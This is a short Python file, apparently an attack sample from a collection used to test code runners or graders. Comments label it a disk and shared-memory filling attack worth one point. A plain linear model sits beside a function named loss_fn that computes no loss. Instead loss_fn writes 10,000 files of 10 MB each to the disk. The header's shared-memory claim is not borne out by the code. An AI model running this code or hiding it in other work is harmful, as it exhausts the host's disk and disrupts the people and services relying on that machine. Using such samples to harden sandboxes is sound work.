# attack: fills its disk and its shared memory
# points: exactly 1
# says: loss_fn
import os


def model(t_u, w, b):
    return w * t_u + b


def loss_fn(t_p, t_c):
    for number in range(10_000):
        with open(f"fill{number}", "wb") as file:
            file.write(bytes(10_000_000))
